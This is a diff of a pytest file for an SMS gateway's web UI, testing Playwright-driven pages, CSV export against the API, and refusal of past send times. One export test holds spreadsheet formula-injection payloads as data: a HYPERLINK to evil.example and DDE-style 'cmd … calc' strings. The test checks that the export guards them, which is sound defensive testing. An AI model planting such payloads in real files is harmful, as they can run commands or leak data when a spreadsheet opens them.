@@ -1,12 +1,14 @@
 """Messages and Scheduled in real headless Chromium (Debian's chromium, driven by Playwright with executable_path):
 300 messages all reachable through the pages' links, the CSV export equal to the API's list for the same filter,
-a status that turns delivered on an open page without a reload, moving and canceling a batch, a refused edit, a
-deletion, and the pages on a 360 px phone."""
+a status that turns delivered on an open page without a reload, moving and canceling a batch, a past time stopped
+and "Send now", a refused edit, a deletion, and the pages on a 360 px phone; then, through Flask's test client, the
+export cell for cell against the API with formulas guarded, and past times refused on the scheduled pages."""
 
 import csv
 import datetime as dt
 import io
 import os
+import re
 import shutil
 import time
 
@@ -14,7 +16,6 @@ import pytest
 from playwright import sync_api as playwright_api
 
 from modemgw import auth
-from modemgw.book import unformula
 from modemgw.daemon import Daemon
 from modemgw.gateway import SubmitRequest
 from tests.support import Client, daemon_config
@@ -163,8 +164,8 @@ def test_the_csv_export_is_the_apis_list_for_the_same_filter(browser, daemon, pe
     rows = exported(page, daemon)
     api = api_list(daemon, people["key"], f"status=delivered&api_key_id={people['crm']}")
     assert [int(row["id"]) for row in rows] == [view["id"] for view in api] and len(rows) == 50
-    assert [{key: unformula(value) for key, value in row.items()} for row in rows] == [as_cells(v) for v in api]
-    assert rows[0]["to"].startswith("'+44")  # formula-safe: a spreadsheet must not read +44... as a formula
+    assert rows == [as_cells(view) for view in api]  # cell for cell: ids, numbers, statuses, times
+    assert rows[0]["to"] == api[0]["to"] and rows[0]["to"].startswith("+44")  # a number is written as it is
 
     today = dt.date.today().isoformat()
     page.goto(f"{daemon.url}ui/messages?status=scheduled&sender=user:{people['alice']}&from={today}&to={today}"
@@ -272,6 +273,27 @@ def test_a_batch_is_moved_and_canceled_from_the_scheduled_page(browser, daemon, 
                                                                  {"messages": 3})
 
 
+def test_a_past_time_is_stopped_and_send_now_sends_the_batch(browser, daemon, people):
+    batch = daemon.gateway.send(SubmitRequest("Doors open at 9", numbers(2, 5100), send_at=time.time() + LATER,
+                                              user_id=people["alice"]))
+    submission = batch["submission_id"]
+    page = logged_in(browser, daemon)
+    page.goto(f"{daemon.url}ui/scheduled/{submission}")
+    field = page.get_by_label("New time")
+    assert field.get_attribute("min") <= time.strftime("%Y-%m-%dT%H:%M")  # no earlier than the page's minute
+    field.fill("2020-01-01T08:00")
+    page.get_by_role("button", name="Move batch").click()
+    assert field.evaluate("input => input.validity.rangeUnderflow")  # the browser says why; nothing was sent
+    assert {daemon.gateway.message(m["id"])["status"] for m in batch["messages"]} == {"scheduled"}
+    page.get_by_role("button", name="Send now").click()
+    expect(page.get_by_role("status")).to_have_text(
+        f"Batch {submission}: 2 messages sent now (they leave as soon as a SIM can send them).")
+    ids = [message["id"] for message in batch["messages"]]
+    assert daemon.wait_until(lambda: all(row["status"] == "delivered" for row in daemon.gateway.store.messages(ids)),
+                             15)
+    assert daemon.gateway.audit_log(action="batch.reschedule")[0]["target"] == f"submission {submission}"
+
+
 def test_an_edit_over_the_segment_limit_is_refused_clearly(browser, daemon):
     batch = daemon.gateway.submit("Original text", numbers(2, 6000), send_at=time.time() + LATER)
     message_id = batch["messages"][0]["id"]
@@ -338,3 +360,97 @@ def test_the_pages_fit_a_phone(browser, daemon, populated):
         check_phone_page(page)
     expect(page.get_by_role("heading", name="Messages")).to_be_visible()
     expect(page.get_by_role("alert").first).to_contain_text("is not a status")
+
+
+# --- through Flask's test client (no browser) ------------------------------------------------------------------------
+
+@pytest.fixture
+def ui(app):
+    """A logged-in web UI session (alice, admin) on `app`, Flask's test client."""
+    import webui
+    from tests.support import csrf_token
+
+    webui.add_user(app.extensions["modemgw"].store, "alice", PASSWORD, "admin")
+    client = app.test_client()
+    token = csrf_token(client.get("/ui/login").get_data(as_text=True))
+    answer = client.post("/ui/login", data={"username": "alice", "password": PASSWORD, "csrf_token": token})
+    assert answer.status_code == 302
+    return client
+
+
+def local(seconds):
+    return time.strftime("%Y-%m-%dT%H:%M", time.localtime(seconds))
+
+
+def form_token(ui, path):
+    from tests.support import csrf_token
+
+    return csrf_token(ui.get(path).get_data(as_text=True))
+
+
+def test_the_export_is_the_apis_list_cell_for_cell_and_formulas_stay_guarded(ui, client):
+    """The README's promise: the same rows as GET /api/v1/messages. Numbers (recipients, amounts) are written as
+    they are; only a text a spreadsheet could run gets its apostrophe."""
+    gateway = client.test_client.application.extensions["modemgw"].gateway
+    formulas = ['=HYPERLINK("http://evil.example/?x","Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                "@SUM(1)"]
+    for index, body in enumerate(["Your code is 1234", "+44 7700 900123", "-12.50", *formulas]):
+        gateway.send(SubmitRequest(body, f"+4477009{7000 + index:05d}", client_ref=f"-{index}",
+                                   send_at=time.time() + LATER))
+    answer = ui.get("/ui/messages/export.csv")
+    assert answer.status_code == 200 and answer.mimetype == "text/csv"
+    text = answer.get_data(as_text=True)
+    assert text.startswith("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(text[1:])))
+    status, _, page = client.call("GET", "/api/v1/messages?limit=500")
+    assert status == 200 and len(rows) == len(page["data"]) == 7
+    api = [as_cells(view) for view in page["data"]]
+    guarded = {row["id"] for row in api if row["body"] in formulas}
+    assert len(guarded) == 4
+    assert [row for row in rows if row["id"] not in guarded] == [row for row in api if row["id"] not in guarded]
+    for row, expected in zip(rows, api, strict=True):
+        assert (row["id"], row["to"], row["status"], row["client_ref"]) == (
+            expected["id"], expected["to"], expected["status"], expected["client_ref"])
+        assert row["to"].startswith("+44") and row["client_ref"].startswith("-")  # no apostrophe
+        if row["id"] in guarded:
+            assert row["body"] == "'" + expected["body"]  # shown as text, never run
+
+
+def test_a_past_time_is_refused_on_the_scheduled_pages_and_send_now_sends(ui, app):
+    gateway = app.extensions["modemgw"].gateway
+    batch = gateway.submit("Party on Friday", numbers(2, 7100), send_at=time.time() + LATER)
+    submission, message_id = batch["submission_id"], batch["messages"][0]["id"]
+    due = {m["id"]: gateway.message(m["id"])["due_at"] for m in batch["messages"]}
+    minutes = {time.strftime("%Y-%m-%dT%H:%M")}
+    page = ui.get(f"/ui/scheduled/{submission}").get_data(as_text=True)
+    minutes.add(time.strftime("%Y-%m-%dT%H:%M"))  # the page was drawn within these minutes
+    assert any(f'name="send_at" value="{local(due[message_id])}" min="{minute}" required>' in page
+               for minute in minutes), page
+    assert '<button type="submit" name="action" value="now" class="secondary" formnovalidate>Send now</button>' in page
+    token = form_token(ui, f"/ui/scheduled/{submission}")
+    moved = ui.post(f"/ui/scheduled/{submission}/move", data={"csrf_token": token, "send_at": "2020-01-01T08:00"},
+                    follow_redirects=True).get_data(as_text=True)
+    assert "Not moved: 2020-01-01 08:00 has passed: choose a later time, or Send now" in moved
+    assert {key: gateway.message(key)["due_at"] for key in due} == due  # nothing moved
+    assert all(event["kind"] == "message.created" for key in due for event in gateway.message(key)["timeline"])
+
+    edit = f"/ui/scheduled/messages/{message_id}"
+    page = ui.get(edit).get_data(as_text=True)
+    assert 'type="datetime-local" id="send_at"' in page and 'min="' in page and ">Send now</button>" in page
+    refused = ui.post(edit, data={"csrf_token": token, "send_at": "2020-01-01T08:00", "body": "New text"})
+    assert refused.status_code == 400
+    assert "Not saved: 2020-01-01 08:00 has passed: choose a later time, or Send now" in refused.get_data(as_text=True)
+    row = gateway.message(message_id)
+    assert row["body"] == "Party on Friday" and [event["kind"] for event in row["timeline"]] == ["message.created"]
+
+    sent = ui.post(edit, data={"csrf_token": token, "send_at": "2020-01-01T08:00", "body": "New text",
+                               "action": "now"})
+    assert sent.status_code == 302 and sent.headers["Location"].endswith(f"/ui/messages/{message_id}")
+    row = gateway.message(message_id)
+    assert row["body"] == "New text" and row["due_at"] == pytest.approx(time.time(), abs=5)
+    other = batch["messages"][1]["id"]
+    now = ui.post(f"/ui/scheduled/{submission}/move", data={"csrf_token": token, "send_at": "", "action": "now"},
+                  follow_redirects=True).get_data(as_text=True)
+    # 1 message, or 2 while the alarm has not yet queued the one sent now above
+    assert re.search(rf"Batch {submission}: [12] messages? sent now \(they leave as soon as a SIM can", now), now
+    assert gateway.message(other)["due_at"] == pytest.approx(time.time(), abs=5)
